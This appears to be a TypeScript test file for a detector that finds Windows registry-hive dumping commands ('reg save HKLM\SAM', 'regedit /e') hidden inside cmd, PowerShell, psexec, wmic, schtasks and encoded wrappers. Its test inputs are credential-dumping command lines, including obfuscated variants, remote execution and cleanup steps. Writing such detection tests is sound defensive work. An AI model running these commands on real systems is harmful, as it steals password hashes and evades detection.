/** What programs that hand on a command of reg.exe show of it: every command, and the machine it is meant for. */
import { describe, expect, it, test } from 'vitest';
import { hiveAnchors } from '../../../src/core/act/anchors-of-event.ts';
import { regActOf, regActsOf } from '../../../src/core/act/reg-act.ts';
import { findRegCommands } from '../../../src/core/windows/registry/reg-wrapped.ts';
import { factsOfCase, joined, NOON, run } from './events.ts';

const by = (image: string, line: string) => run(line, {}, { 'process.executable': `C:\\x\\${image}` });
const acts = (image: string, line: string) =>
  regActsOf(by(image, line)).map(({ command: { operation, key, output } }) => [operation, key?.path, output]);
const BOTH = [
  ['save', 'HKLM\\sam', 'C:\\t\\sam'],
  ['save', 'HKLM\\system', 'C:\\t\\system'],
];

describe('a loop over hives is each of its rounds', () => {
  it.each([
    ['cmd.exe', 'cmd /c for %i in (sam system) do reg save HKLM\\%i C:\\t\\%i'],
    ['cmd.exe', 'cmd /c "for %i in (sam,system) do @(reg save HKLM\\%i C:\\t\\%i)"'],
    ['cmd.exe', 'cmd /c for %%i in (sam system) do reg save HKLM\\%%~i C:\\t\\%%i'],
    ['powershell.exe', `powershell -c "'sam','system' | % { reg save HKLM\\$_ C:\\t\\$_ }"`],
    ['powershell.exe', `powershell -c "@('sam','system') | ForEach-Object {reg save HKLM\\$_ C:\\t\\$_}"`],
    ['powershell.exe', `powershell -c "foreach ($h in 'sam','system') { reg save HKLM\\$h C:\\t\\$h }"`],
  ])('%s: %s', (image, line) => {
    expect(acts(image, line)).toEqual(BOTH);
  });
});

describe('PowerShell code whose words are taken apart is read whole', () => {
  it.each([
    'powershell r`eg sa`ve HKLM\\s`am C:\\t\\sam',
    `powershell -c "& ('re'+'g') save ('HKLM\\s'+'am') C:\\t\\sam"`,
    `powershell [System.Diagnostics.Process]::Start("reg.exe","save HKLM\\sam C:\\t\\sam")`,
    'powershell -c "reg save \\"HKLM\\sam\\" \\"C:\\t\\sam\\""',
  ])('%s', (line) => {
    expect(acts('powershell.exe', line)).toEqual([BOTH[0]]);
  });
});

describe('a program that is given text does not run it', () => {
  it.each([
    ['findstr.exe', 'findstr /c:"reg save HKLM\\SAM" *.log'],
    ['git.exe', 'git commit -m "explain reg save HKLM\\SAM file"'],
    ['curl.exe', 'curl -d "reg export HKLM\\SAM file" https://wiki.example'],
    ['cmd.exe', 'cmd /c findstr /c:"reg save HKLM\\SAM" *.log'],
    ['cmd.exe', 'cmd /c findstr "reg save HKLM\\SAM x" a & whoami'],
    ['cmd.exe', 'cmd /c type a | findstr "reg save HKLM\\SAM x"'],
    ['powershell.exe', `powershell -c "whoami; findstr 'reg save HKLM\\SAM x' a"`],
  ])('%s: %s', (image, line) => {
    expect(acts(image, line)).toEqual([]);
  });
});

it('is run by a command beside one that searches text for it', () => {
  const line = (rest: string) => `cmd /c findstr "reg save HKLM\\SAM x" a & ${rest}`;
  for (const rest of ['reg save HKLM\\SYSTEM y', 'x.exe "reg save HKLM\\SYSTEM y"']) {
    expect(findRegCommands(line(rest)).map(({ command }) => command.key?.path)).toEqual(['HKLM\\SYSTEM']);
  }
});

describe('the machine that a wrapper names is the one whose registry is meant', () => {
  it.each([
    ['psexec.exe', 'psexec -accepteula -s \\\\SRV9 reg save HKLM\\SAM C:\\s', 'srv9'],
    ['wmic.exe', 'wmic /user:a /node:"srv9" process call create "reg save HKLM\\SAM C:\\s"', 'srv9'],
    ['schtasks.exe', 'schtasks /create /s srv9 /sc once /tn a /tr "reg save HKLM\\SAM C:\\s"', 'srv9'],
    ['sc.exe', 'sc \\\\srv9 create a binPath= "cmd /c reg save HKLM\\SAM C:\\s"', 'srv9'],
    ['at.exe', 'at \\\\srv9 13:00 reg save HKLM\\SAM C:\\s', 'srv9'],
    ['winrs.exe', 'winrs -r:http://srv9:5985 reg save HKLM\\SAM C:\\s', 'srv9'],
    ['powershell.exe', 'powershell icm -cn srv9 { reg save HKLM\\SAM C:\\s }', 'srv9'],
    ['wmic.exe', 'wmic /node:localhost process call create "reg save HKLM\\SAM C:\\s"', undefined],
    ['schtasks.exe', 'schtasks /create /sc once /tn a /tr "reg save HKLM\\SAM C:\\s"', undefined],
    ['reg.exe', 'reg save \\\\WS01.corp.example\\HKLM\\SAM C:\\s', undefined],
    ['reg.exe', 'reg save \\\\127.0.0.1\\HKLM\\SAM C:\\s', undefined],
  ])('%s: %s', (image, line, host) => {
    expect(regActOf(by(image, line))?.command.key?.remoteHost).toBe(host);
  });
});

test('each act of a line is an anchor of its own, and pairs with the others', () => {
  const line =
    'wmic /node:srv9 process call create "cmd /c reg save HKLM\\SAM C:\\a & reg save HKLM\\SYSTEM C:\\b"';
  const anchors = hiveAnchors(by('wmic.exe', line));
  expect(anchors.map((anchor) => factsOfCase(joined(anchor)))).toMatchObject([
    { 'reg.key.hive': 'SAM', 'hive.taken': ['SAM'], 'pair.hives': ['SAM', 'SYSTEM'] },
    { 'reg.key.hive': 'SYSTEM', 'hive.taken': ['SYSTEM'], 'pair.hives': ['SAM', 'SYSTEM'] },
  ]);
});

test('what reg query read before a copy is told with it, and not what it read later', () => {
  const asked = (key: string, seconds: number) => run(`reg query ${key}`, { time: NOON + seconds * 1000 });
  const neighbours = [asked('HKLM\\B', -9), asked('HKLM\\A', -8), asked('HKLM\\b', -7), asked('HKLM\\C', 5)];
  expect(factsOfCase(joined(run('reg save HKLM\\SAM C:\\s'), { neighbours }))).toMatchObject({
    'pair.asked': ['hklm\\a', 'hklm\\b'],
    'pair.asked_count': 2,
  });
});

describe('a copy deleted afterwards', () => {
  const save = run('reg save HKLM\\SAM C:\\t\\s.hiv');
  const facts = (image: string, line: string) =>
    factsOfCase(
      joined(save, {
        neighbours: [run(line, { time: NOON + 60_000 }, { 'process.executable': `C:\\x\\${image}` })],
      }),
    );
  it.each([
    ['cmd.exe', 'cmd /c del /q C:\\t\\s.hiv'],
    ['powershell.exe', 'powershell Remove-Item C:\\t\\s.hiv -Force'],
    ['sdelete.exe', 'sdelete -p 3 C:\\t\\s.hiv'],
  ])('is told by %s: %s', (image, line) => {
    expect(facts(image, line)).toMatchObject({ 'pair.deleted_by': [image] });
    expect(facts(image, line)['pair.moved_by']).toBeUndefined();
  });

  it('is told as carried away by what copies it first', () => {
    const line = 'cmd /c copy C:\\t\\s.hiv \\\\srv\\d & del C:\\t\\s.hiv';
    expect(facts('cmd.exe', line)).toMatchObject({ 'pair.moved_by': ['cmd.exe'] });
  });
});

describe('a renamed tool', () => {
  const named = (line: string, fields: Record<string, string>) =>
    regActOf(run(line, {}, { 'process.executable': 'C:\\t\\a.exe', ...fields }));
  it('is told by its grammar with quotes inside', () => {
    expect(named('a.exe "s"ave HK"LM"\\SAM C:\\s', {})).toMatchObject({ renamed: true, wrapped: false });
  });
  it('may be regedit', () => {
    const line = 'a.exe /e C:\\s.reg HKEY_LOCAL_MACHINE\\SAM';
    expect(named(line, { 'process.pe.original_file_name': 'REGEDIT.EXE' })).toMatchObject({
      renamed: true,
      command: { tool: 'regedit', operation: 'export', key: { path: 'HKLM\\SAM' } },
    });
  });
});

describe('who does it', () => {
  const raw = String.raw;
  it.each([
    ['reg.exe itself', raw`  reg save HKLM\SAM C:\s`, 'reg', false],
    ['a process below PowerShell', raw`powershell -c "reg save HKLM\SAM C:\s"`, 'reg', true],
    ['PowerShell itself', raw`pwsh.exe -c "[R]::RegSaveKey($k,'C:\s') # 'SAM'"`, 'api', false],
    ['PowerShell by its path', raw`C:\x\powershell -c "[R]::RegSaveKey($k,'C:\s') # 'SAM'"`, 'api', false],
    [
      'a PowerShell below cmd',
      raw`cmd /c start powershell -c "[R]::RegSaveKey($k,'C:\s') # 'SAM'"`,
      'api',
      true,
    ],
  ])('is %s: %s', (_who, line, tool, wrapped) => {
    expect(findRegCommands(line)).toMatchObject([
      { wrapped, command: { tool, operation: 'save', key: { path: 'HKLM\\SAM' }, output: 'C:\\s' } },
    ]);
  });
});

describe('a command in the line of any other program ends', () => {
  const raw = String.raw;
  it.each([
    ['at its single quote', raw`tool.exe -x 'reg save HKLM\SAM C:\s' -y`],
    ['at its double quote', raw`tool.exe -x "reg save HKLM\SAM C:\s" -y`],
    ['at the end of the line', raw`tool.exe reg save HKLM\SAM C:\s`],
    ['at an ampersand', raw`tool.exe reg save HKLM\SAM C:\s & other`],
    ['at the quote that is not its own', raw`tool.exe -x "reg save \"HKLM\SAM\" \"C:\s\"" z`],
    ['at its bracket', raw`tool.exe (reg save HKLM\SAM C:\s)`],
    [
      'where nothing follows, behind a program in quotes',
      raw`tool.exe "C:\Windows\reg.exe" save HKLM\SAM C:\s`,
    ],
    ['where nothing follows, behind a sign', raw`tool.exe -x=reg save HKLM\SAM C:\s`],
    ['at the brace of its block', raw`powershell -c "if(1){reg save HKLM\SAM C:\s}"`],
    ['at the braces of all its blocks', raw`powershell -c "if(1){ if(2){ reg save HKLM\SAM C:\s } }"`],
    ['at the bracket of its group', raw`powershell -c "(reg save HKLM\SAM C:\s)"`],
    ['at the bracket of a group of cmd.exe', raw`cmd /c (reg save HKLM\SAM C:\s)`],
    ['at the quote of a task', raw`schtasks /create /tr " reg save HKLM\SAM C:\s" /tn x`],
    ['at the quote of another account', raw`runas /user:x "  reg save HKLM\SAM C:\s"`],
    ['behind several shells', raw`cmd /c cmd /c cmd /c cmd /c reg save HKLM\SAM C:\s`],
    ['behind a search for a word', raw`cmd /c "find "x" a & reg save HKLM\SAM C:\s"`],
    [
      'behind a program that is only named like one that keeps text',
      raw`notepad.exe.x "reg save HKLM\SAM C:\s"`,
    ],
    ['at brackets around one text', raw`powershell -c "& ( 'reg' ) save HKLM\SAM ('C:\s'); %"`],
  ])('%s: %s', (_where, line) => {
    expect(findRegCommands(line)).toMatchObject([
      { wrapped: true, command: { operation: 'save', key: { path: 'HKLM\\SAM' }, output: 'C:\\s' } },
    ]);
    expect(findRegCommands(line)).toHaveLength(1);
  });

  it('and keeps brackets and quotes of its own', () => {
    expect(findRegCommands(raw`cmd /c "(reg save HKLM\SAM C:\a(1))"`)[0]?.command.output).toBe(raw`C:\a(1)`);
    expect(findRegCommands(raw`tool.exe it's reg save HKLM\SAM C:\it's`)[0]?.command.output).toBe(
      raw`C:\it's`,
    );
    expect(
      findRegCommands(raw`powershell -c "& ('reg') save HKLM\SAM ('C:\'+'s x')"`)[0]?.command.output,
    ).toBe(raw`C:\s x`);
  });

  it.each([
    ['nothing is named', raw`tool.exe reg load`],
    ['the word is another', raw`tool.exe regx save HKLM\SAM C:\s`],
    [
      'all that is run searches text',
      raw`cmd /c findstr "reg save HKLM\SAM C:\s" a & find "reg save HKLM\SAM C:\s" b`,
    ],
  ])('is none where %s: %s', (_why, line) => {
    expect(findRegCommands(line)).toEqual([]);
  });

  it('on another machine, unless the key names one, or there is no key', () => {
    expect(
      findRegCommands(raw`psexec \\srv reg save \\other\HKLM\SAM C:\s`)[0]?.command.key?.remoteHost,
    ).toBe('other');
    expect(findRegCommands(raw`psexec \\srv reg import C:\a.reg`)[0]?.command).toMatchObject({
      operation: 'import',
      key: undefined,
      input: raw`C:\a.reg`,
    });
  });

  it('at a bound when a line holds very many', () => {
    const many = Array.from({ length: 60 }, (_, at) => raw`reg save HKLM\SAM C:\s${at}`).join(' & ');
    expect(findRegCommands(`cmd /c ${many}`)).toHaveLength(32);
  });
});

describe('an export by regedit is found where a shell or a tool starts it', () => {
  const raw = String.raw;
  const encoded = (code: string) => Buffer.from(code, 'utf16le').toString('base64');
  it.each([
    raw`cmd /c regedit /e C:\o HKLM\SAM`,
    raw`C:\Windows\System32\cmd /c regedit /e C:\o HKLM\SAM`,
    raw`cmd /c r^e^g^e^d^i^t /e C:\o HKLM\SAM`,
    raw`cmd /c start regedit /e C:\o HKLM\SAM`,
    raw`cmd /c cmd /c cmd /c cmd /c regedit /e C:\o HKLM\SAM`,
    raw`schtasks /create /tr " regedit /e C:\o HKLM\SAM"`,
    raw`powershell -c "regedit /e C:\o HKLM\SAM"`,
    raw`powershell -c "if(1){ regedit /e C:\o HKLM\SAM }"`,
    raw`powershell -c "& { (regedit /e C:\o HKLM\SAM) }"`,
    raw`powershell -c "('regedit') /e C:\o HKLM\SAM; 'a'+'b'"`,
    raw`powershell -c "& ( 'regedit' ) /e C:\o ('HKLM\SAM'); %"`,
    raw`powershell -c powershell -c powershell -c regedit /e C:\o HKLM\SAM`,
    'powershell -c "re`gedit /e C:\\o HKLM\\SAM"',
  ])('%s', (line) => {
    expect(findRegCommands(line)).toMatchObject([
      { wrapped: true, command: { tool: 'regedit', key: { path: 'HKLM\\SAM' }, output: 'C:\\o' } },
    ]);
  });

  it.each(['cmd /c ', 'powershell -c '])('a few steps deep, not behind many: %s', (shell) => {
    expect(findRegCommands(`${shell.repeat(8)}regedit /e C:\\o HKLM\\SAM`)).toEqual([]);
  });

  it('and what is encoded is read where nothing is said openly', () => {
    const hidden = encoded(raw`reg save HKLM\SAM C:\o`);
    const paths = (line: string) => findRegCommands(line).map(({ command }) => command.key?.path);
    expect(paths(`tool.exe region -enc ${hidden}`)).toEqual([raw`HKLM\SAM`]);
    expect(paths(raw`tool.exe reg save HKLM\SYSTEM C:\o -enc ${hidden}`)).toEqual([raw`HKLM\SYSTEM`]);
  });

  it('and a file that is imported counts without a key', () => {
    expect(findRegCommands(raw`tool.exe reg import C:\a.reg`)).toMatchObject([
      { command: { operation: 'import', key: undefined, input: raw`C:\a.reg` } },
    ]);
  });

  it.each([
    raw`cmd /c findstr.exe "reg save HKLM\SAM C:\o" a`,
    raw`findstr.exe "reg save HKLM\SAM C:\o" a`,
    raw`x.exe save HKLM\SAM C:\o`,
  ])('but not in %s', (line) => {
    expect(findRegCommands(line)).toEqual([]);
  });
});
